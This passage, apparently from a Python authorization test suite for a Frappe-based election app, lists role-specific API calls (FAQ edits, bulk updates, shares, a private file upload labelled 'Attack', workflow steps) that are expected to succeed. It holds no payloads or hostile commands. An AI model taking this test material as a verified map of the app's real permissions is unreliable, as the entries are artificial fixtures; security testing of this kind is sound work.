	written("a question by REST", ELECTIONS, "FAQ", "$I", answer_uz="Boshqa javob"),
	stock(
		"a question by set_value",
		ELECTIONS,
		SET,
		doctype="FAQ",
		name="$I",
		fieldname="answer_uz",
		value="Yana javob",
	),
	saved(
		"a question by its form",
		ELECTIONS,
		doctype="FAQ",
		name="new-faq-1",
		__islocal=1,
		question_uz="Begona savol",
		answer_uz="x",
		for_voters=1,
	),
	stock(
		"questions in bulk",
		ROOT,
		"frappe.desk.doctype.bulk_update.bulk_update.submit_cancel_or_update_docs",
		doctype="FAQ",
		docnames='["$I"]',
		action="update",
		data='{"answer_uz": "Uchinchi javob"}',
	),
	entered("a new question", ROOT, "FAQ", question_uz="Begona savol", answer_uz="x", for_voters=1),
	entered(
		"a column of a list",
		MANAGER,
		"Property Setter",
		doctype_or_field="DocField",
		doc_type="ToDo",
		field_name="date",
		property="in_list_view",
		property_type="Check",
		value="1",
	),
	entered(
		"a report of a list",
		MANAGER,
		"Report",
		report_name="begona",
		ref_doctype="ToDo",
		report_type="Report Builder",
		is_standard="No",
	),
	entered("a task", ROOT, "ToDo", description="begona", date="2030-01-01"),
	stock(
		"a share", ROOT, "frappe.share.add", doctype="User", name=MINE[MANAGER], user=MINE[ELECTIONS], read=1
	),
	get("people as administrators read them", ELECTIONS, "/api/resource/Person", fields='["pinfl"]'),
	get("a print", MANAGER, "/printview", doctype="User", name=MINE[MANAGER]),
	Attack(
		"a private text",
		ELECTIONS,
		"POST",
		f"{METHOD}upload_file",
		data={"is_private": "1"},
		file=("begona.txt", b"x"),
	),
	entered("a tag", ROOT, "Tag", name="begona"),
	stock(
		"a tag under another name",
		ROOT,
		"frappe.model.rename_doc.update_document_title",
		doctype="Tag",
		docname="begona",
		name="begona-2",
	),
	removed("a tag deleted", ROOT, "Tag", "begona-2"),
	stock(
		"a step of the workflow",
		ELECTIONS,
		"frappe.model.workflow.apply_workflow",
		doc={"doctype": "FAQ", "name": "$I"},
		action="Check",
	),
	stock(
		"rights as the manager of permissions shows them",
		MANAGER,
		"frappe.core.page.permission_manager.permission_manager.get_permissions",
		doctype="ToDo",
	),
	stock(
		"prefixes of numbers by run_doc_method",
		MANAGER,
		"run_doc_method",
		method="get_transactions_and_prefixes",
		dt="Document Naming Settings",
		dn="Document Naming Settings",
	),
	removed("a question deleted", ROOT, "FAQ", "$I"),
)
"""The same roads where they lead: each is answered with what was asked for."""
